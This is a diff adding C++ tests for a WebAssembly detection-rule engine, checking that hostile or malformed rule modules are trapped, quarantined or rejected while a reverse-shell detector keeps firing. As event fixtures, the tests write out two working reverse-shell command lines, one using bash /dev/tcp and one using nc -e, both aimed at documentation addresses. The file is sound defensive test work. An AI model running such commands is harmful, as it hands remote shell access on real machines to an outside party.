@@ -1,0 +1,331 @@
+// Hostile modules. Each test shows the engine rejecting or containing the module and then
+// processing later events normally: a well-behaved rule loaded beside it keeps detecting.
+#include <fstream>
+
+#include "module_builder.h"
+#include "wasm_test_util.h"
+
+namespace wsn::wasm::testing {
+namespace {
+
+constexpr const char* kMeta =
+    "abi = 1.0\nname = nested\ncategories = *\nfields = process.command_line\n";
+
+void write_file(const std::string& path, const std::vector<uint8_t>& bytes) {
+  std::ofstream out(path, std::ios::binary);
+  out.write(reinterpret_cast<const char*>(bytes.data()),
+            static_cast<std::streamsize>(bytes.size()));
+}
+
+class HostileTest : public WasmFixture, public ::testing::WithParamInterface<TierMode> {
+ protected:
+  void SetUp() override {
+    WasmFixture::SetUp();
+    options_->tier = GetParam();
+    options_->aot_background = false;
+  }
+
+  // Runs `hostile` (rule 0) beside the C reverse-shell example (rule 1) over benign events and
+  // one reverse shell at the end; returns the hostile rule's runner stats.
+  RunnerStats run_beside_good_rule(const std::string& hostile, RecordingSink& sink,
+                                   FailMode fail = FailMode::kOpen) {
+    auto bad = load(test_module(hostile));
+    auto good = load(sdk_module("c_reverse_shell"));
+    if (!bad || !good) return {};
+    if (GetParam() == TierMode::kCompiled) {
+      EXPECT_TRUE(bad->aot_ready()) << bad->aot_error();
+      EXPECT_TRUE(good->aot_ready()) << good->aot_error();
+    }
+    std::vector<WasmRule> rules = {rule(0, bad, fail), rule(1, good)};
+    WasmRules set(std::move(rules), options_);
+    auto matcher = set.make_matcher();
+    for (int k = 0; k < 12; ++k) {
+      matcher->process(process_event("evt-" + std::to_string(k), "exec", "ls", "ls -la /tmp"),
+                       sink);
+    }
+    matcher->process(process_event("evt-shell", "exec", "bash",
+                                   "bash -c 'bash -i >& /dev/tcp/203.0.113.50/4444 0>&1'"),
+                     sink);
+    auto* wm = dynamic_cast<WasmMatcher*>(matcher.get());
+    EXPECT_NE(wm, nullptr);
+    const RunnerStats stats = wm->runners()[0]->stats();
+    const Tier expected = GetParam() == TierMode::kCompiled ? Tier::kCompiled : Tier::kInterpreter;
+    EXPECT_EQ(wm->runners()[1]->stats().tier, expected);
+    // The good rule saw every event and caught the shell.
+    EXPECT_EQ(wm->runners()[1]->stats().calls, 13u);
+    EXPECT_EQ(sink.count(1), 1u);
+    EXPECT_EQ(wm->runners()[1]->stats().traps, 0u);
+    return stats;
+  }
+};
+
+TEST_P(HostileTest, InfiniteLoopEndsWithFuelTrap) {
+  RecordingSink sink;
+  const RunnerStats s = run_beside_good_rule("loop", sink);
+  EXPECT_GE(s.traps_by_kind[static_cast<size_t>(TrapKind::kFuel)], 5u);
+  EXPECT_EQ(s.traps, s.traps_by_kind[static_cast<size_t>(TrapKind::kFuel)]);
+  // Five failures in a row quarantine the rule: later events are not sent to it.
+  EXPECT_EQ(s.quarantines, 1u);
+  EXPECT_TRUE(s.quarantined);
+  EXPECT_EQ(s.calls, 5u);
+  EXPECT_EQ(s.skipped, 8u);
+  EXPECT_EQ(sink.count(0), 0u);  // fail-open: no alerts from the broken rule
+}
+
+TEST_P(HostileTest, DirectRecursionEndsWithDepthTrap) {
+  RecordingSink sink;
+  const RunnerStats s = run_beside_good_rule("recursion", sink);
+  EXPECT_GE(s.traps_by_kind[static_cast<size_t>(TrapKind::kDepth)], 5u);
+  EXPECT_EQ(s.traps, s.traps_by_kind[static_cast<size_t>(TrapKind::kDepth)]);
+}
+
+TEST_P(HostileTest, RecursionThroughCallIndirectEndsWithDepthTrap) {
+  RecordingSink sink;
+  const RunnerStats s = run_beside_good_rule("recursion_indirect", sink);
+  EXPECT_GE(s.traps_by_kind[static_cast<size_t>(TrapKind::kDepth)], 5u);
+  EXPECT_EQ(s.traps, s.traps_by_kind[static_cast<size_t>(TrapKind::kDepth)]);
+}
+
+TEST_P(HostileTest, OutOfBoundsAccessTraps) {
+  RecordingSink sink;
+  const RunnerStats s = run_beside_good_rule("oob", sink);
+  EXPECT_GE(s.traps_by_kind[static_cast<size_t>(TrapKind::kMemory)], 5u);
+}
+
+TEST_P(HostileTest, BadHostCallArgumentsTrap) {
+  RecordingSink sink;
+  const RunnerStats s = run_beside_good_rule("host_abuse", sink);
+  EXPECT_GE(s.traps_by_kind[static_cast<size_t>(TrapKind::kHost)], 5u);
+}
+
+TEST_P(HostileTest, FailClosedRuleAlertsOnEveryFailedEvaluation) {
+  RecordingSink sink;
+  const RunnerStats s = run_beside_good_rule("loop", sink, FailMode::kClosed);
+  // 5 traps + 8 quarantined events, each a detection titled with the reason.
+  EXPECT_EQ(sink.count(0), 13u);
+  EXPECT_EQ(s.fail_closed, 13u);
+  ASSERT_FALSE(sink.all.empty());
+  EXPECT_NE(sink.all.front().title.find("fuel exhausted"), std::string::npos)
+      << sink.all.front().title;
+}
+
+TEST_P(HostileTest, MemoryGrowthStopsAtTheCap) {
+  options_->sandbox.memory_pages = 40;
+  options_->sandbox.fuel_per_event = 100'000'000;  // the failed 65535-page request costs 67M
+  auto m = load(test_module("grow"));
+  ASSERT_TRUE(m);
+  std::vector<WasmRule> rules = {rule(0, m)};
+  WasmRules set(std::move(rules), options_);
+  auto matcher = set.make_matcher();
+  RecordingSink sink;
+  matcher->process(process_event("e1", "exec", "x", "y"), sink);
+  auto* wm = dynamic_cast<WasmMatcher*>(matcher.get());
+  const CallTrace& t = wm->runners()[0]->last_call();
+  EXPECT_EQ(t.trap, TrapKind::kNone);
+  EXPECT_EQ(t.result, 40);  // memory.size after growing until memory.grow failed
+  // 39 pages grown at 1024 fuel each, plus the failed huge grow charged up front.
+  EXPECT_GT(t.fuel_used, 39 * kFuelPerGrowPage);
+  EXPECT_EQ(sink.count(0), 1u);  // returned non-zero: a match
+}
+
+TEST_P(HostileTest, HugeGrowRequestIsChargedAndFails) {
+  options_->sandbox.memory_pages = 40;
+  // The default budget is below 65535 pages * 1024: the request fails for lack of fuel
+  // before the memory cap is even consulted.
+  auto m = load(test_module("grow"));
+  ASSERT_TRUE(m);
+  std::vector<WasmRule> rules = {rule(0, m)};
+  WasmRules set(std::move(rules), options_);
+  auto matcher = set.make_matcher();
+  RecordingSink sink;
+  matcher->process(process_event("e1", "exec", "x", "y"), sink);
+  auto* wm = dynamic_cast<WasmMatcher*>(matcher.get());
+  EXPECT_EQ(wm->runners()[0]->last_call().trap, TrapKind::kFuel);
+}
+
+INSTANTIATE_TEST_SUITE_P(Tiers, HostileTest,
+                         ::testing::Values(TierMode::kInterpreter, TierMode::kCompiled),
+                         [](const auto& param_info) {
+                           return param_info.param == TierMode::kCompiled ? "Compiled"
+                                                                          : "Interpreter";
+                         });
+
+// Load-time rejections: the reason is reported and a good module still loads and runs.
+class RejectTest : public WasmFixture {
+ protected:
+  void expect_rejected(const std::string& path, LoadErrorKind kind, const std::string& needle) {
+    LoadError err = load_error(path);
+    EXPECT_EQ(err.kind, kind) << err.message;
+    EXPECT_NE(err.message.find(needle), std::string::npos) << err.message;
+    expect_engine_still_works();
+  }
+  void expect_engine_still_works() {
+    auto good = load(sdk_module("c_reverse_shell"));
+    ASSERT_TRUE(good);
+    std::vector<WasmRule> rules = {rule(0, good)};
+    WasmRules set(std::move(rules), options_);
+    auto matcher = set.make_matcher();
+    RecordingSink sink;
+    matcher->process(process_event("a", "exec", "nc", "nc -e /bin/sh 198.51.100.7 9001"), sink);
+    matcher->process(process_event("b", "exec", "nc", "nc -zv 10.0.0.5 22"), sink);
+    ASSERT_EQ(sink.all.size(), 1u);
+    EXPECT_EQ(sink.all[0].event_id, "a");
+  }
+  std::string temp_path(const std::string& name) {
+    std::filesystem::create_directories(cache_dir_);
+    return (cache_dir_ / name).string();
+  }
+};
+
+TEST_F(RejectTest, HundredThousandNestedBlocks) {
+  const std::string path = temp_path("nested.wasm");
+  write_file(path, nested_blocks_module(100000, kMeta));
+  expect_rejected(path, LoadErrorKind::kRejected, "nests blocks more than 1024 deep");
+}
+
+TEST_F(RejectTest, NestingThatCrashesTheHelperOnlyCrashesTheHelper) {
+  // Lift the nesting limit so the module reaches wabt's recursive IR code in the helper.
+  options_->sandbox.max_nesting = 100'000'000;
+  options_->sandbox.max_module_bytes = 64 << 20;
+  const std::string path = temp_path("very_nested.wasm");
+  write_file(path, nested_blocks_module(4'000'000, kMeta));
+  LoadError err = load_error(path);
+  EXPECT_EQ(err.kind, LoadErrorKind::kHelper) << err.message;
+  EXPECT_NE(err.message.find("the module helper"), std::string::npos) << err.message;
+  expect_engine_still_works();
+}
+
+TEST_F(RejectTest, InvalidBinaries) {
+  const std::string garbage = temp_path("garbage.wasm");
+  write_file(garbage, {'n', 'o', 't', ' ', 'w', 'a', 's', 'm'});
+  expect_rejected(garbage, LoadErrorKind::kRejected, "not a WebAssembly binary");
+
+  std::vector<uint8_t> good = nested_blocks_module(3, kMeta);
+  std::vector<uint8_t> truncated(good.begin(), good.begin() + 40);
+  const std::string cut = temp_path("truncated.wasm");
+  write_file(cut, truncated);
+  expect_rejected(cut, LoadErrorKind::kRejected, "invalid module");
+
+  std::vector<uint8_t> corrupt = good;
+  corrupt[corrupt.size() - std::string(kMeta).size() - 20] =
+      0xff;  // an opcode inside the code section
+  const std::string bad_op = temp_path("corrupt.wasm");
+  write_file(bad_op, corrupt);
+  LoadError err = load_error(bad_op);
+  EXPECT_EQ(err.kind, LoadErrorKind::kRejected) << err.message;
+}
+
+TEST_F(RejectTest, MissingMetadataSection) {
+  std::vector<uint8_t> m = nested_blocks_module(1, kMeta);
+  // Drop the trailing custom section.
+  m.resize(m.size() - (2 + 1 + 8 + std::string(kMeta).size()));
+  const std::string path = temp_path("nometa.wasm");
+  write_file(path, m);
+  expect_rejected(path, LoadErrorKind::kRejected, "no 'wsn.meta' custom section");
+}
+
+TEST_F(RejectTest, SimdIsRefused) {
+  expect_rejected(test_module("simd"), LoadErrorKind::kRejected, "SIMD");
+}
+
+TEST_F(RejectTest, ThreadsAreRefused) {
+  expect_rejected(test_module("threads"), LoadErrorKind::kRejected, "threads proposal");
+}
+
+TEST_F(RejectTest, ForbiddenImport) {
+  expect_rejected(test_module("forbidden_import"), LoadErrorKind::kRejected,
+                  "import 'wasi_snapshot_preview1.fd_write' is not allowed");
+}
+
+TEST_F(RejectTest, MistypedImport) {
+  expect_rejected(test_module("mistyped_import"), LoadErrorKind::kRejected,
+                  "import 'wsn.emit_alert' has type (i32) -> (); ABI v1 requires (i32, i32, "
+                  "i32, i32, i32) -> ()");
+}
+
+TEST_F(RejectTest, UnknownAbiVersion) {
+  expect_rejected(test_module("abi_v2"), LoadErrorKind::kRejected,
+                  "targets Wasm rule ABI 2 (export 'wsn_abi_v2'); this host supports ABI 1");
+}
+
+TEST_F(RejectTest, InitThatTraps) {
+  expect_rejected(test_module("init_trap"), LoadErrorKind::kInit,
+                  "wsn_init trapped: unreachable executed");
+}
+
+TEST_F(RejectTest, ConfigRefusedByTheModule) {
+  LoadError err = load_error(sdk_module("c_failed_sudo"), "threshold=banana");
+  EXPECT_EQ(err.kind, LoadErrorKind::kInit);
+  EXPECT_NE(err.message.find("wsn_init returned 1"), std::string::npos) << err.message;
+  expect_engine_still_works();
+}
+
+TEST_F(RejectTest, UnknownFieldInMetadata) {
+  std::vector<uint8_t> m =
+      nested_blocks_module(1, "abi = 1.0\nname = x\nfields = process.comand_line\n");
+  const std::string path = temp_path("badfield.wasm");
+  write_file(path, m);
+  expect_rejected(path, LoadErrorKind::kRejected, "unknown field 'process.comand_line'");
+}
+
+TEST_F(RejectTest, MissingHelperIsReported) {
+  options_->helper_path = "/nonexistent/wsn-wasm-helper";
+  LoadError err = load_error(sdk_module("c_reverse_shell"));
+  EXPECT_EQ(err.kind, LoadErrorKind::kHelper);
+  EXPECT_NE(err.message.find("missing"), std::string::npos) << err.message;
+}
+
+}  // namespace
+}  // namespace wsn::wasm::testing
+
+namespace wsn::wasm::testing {
+namespace {
+
+class FeatureTest : public WasmFixture, public ::testing::WithParamInterface<TierMode> {
+ protected:
+  void SetUp() override {
+    WasmFixture::SetUp();
+    options_->tier = GetParam();
+    options_->aot_background = false;
+  }
+};
+
+TEST_P(FeatureTest, LazyFieldsAndTicks) {
+  auto m = load(test_module("tick"));
+  ASSERT_TRUE(m);
+  std::vector<WasmRule> rules = {rule(0, m)};
+  WasmRules set(std::move(rules), options_);
+  auto matcher = set.make_matcher();
+  auto* wm = dynamic_cast<WasmMatcher*>(matcher.get());
+  RecordingSink sink;
+  const int64_t s = 1'000'000'000;
+  const std::string long_cmd = "bash " + std::string(30000, 'x');  // longer than any buffer
+  matcher->process(process_event("t0", "exec", "bash", long_cmd, 100 * s), sink);
+  EXPECT_EQ(wm->runners()[0]->last_call().result, static_cast<int32_t>(long_cmd.size()));
+  EXPECT_EQ(sink.count(0), 1u);  // a non-zero result is a match
+  // No tick yet (the first is due one second after the first event), and an empty command
+  // line has length 0: no match.
+  matcher->process(process_event("t05", "exec", "sh", "", 100 * s + s / 2), sink);
+  EXPECT_EQ(sink.count(0), 1u);
+  matcher->process(process_event("t12", "exec", "bash", "bash -l", 101 * s + s / 5), sink);
+  matcher->process(process_event("t13", "exec", "bash", "bash -l", 101 * s + s / 3), sink);
+  matcher->process(process_event("t25", "exec", "bash", "bash -l", 102 * s + s / 2), sink);
+  // Ticks at 101.2 s and 102.5 s; each matched, attached to the event that triggered it. The
+  // events themselves also matched (non-zero length), except the empty command line.
+  size_t ticks = 0;
+  for (const auto& d : sink.all) ticks += (d.event_id == "t12" || d.event_id == "t25") ? 1 : 0;
+  EXPECT_EQ(ticks, 4u);  // tick + event, twice
+  EXPECT_EQ(sink.count(0), 6u);
+  EXPECT_EQ(wm->runners()[0]->stats().traps, 0u);
+  EXPECT_EQ(wm->runners()[0]->stats().calls, 7u);  // 5 events + 2 ticks
+}
+
+INSTANTIATE_TEST_SUITE_P(Tiers, FeatureTest,
+                         ::testing::Values(TierMode::kInterpreter, TierMode::kCompiled),
+                         [](const auto& param_info) {
+                           return param_info.param == TierMode::kCompiled ? "Compiled"
+                                                                          : "Interpreter";
+                         });
+
+}  // namespace
+}  // namespace wsn::wasm::testing
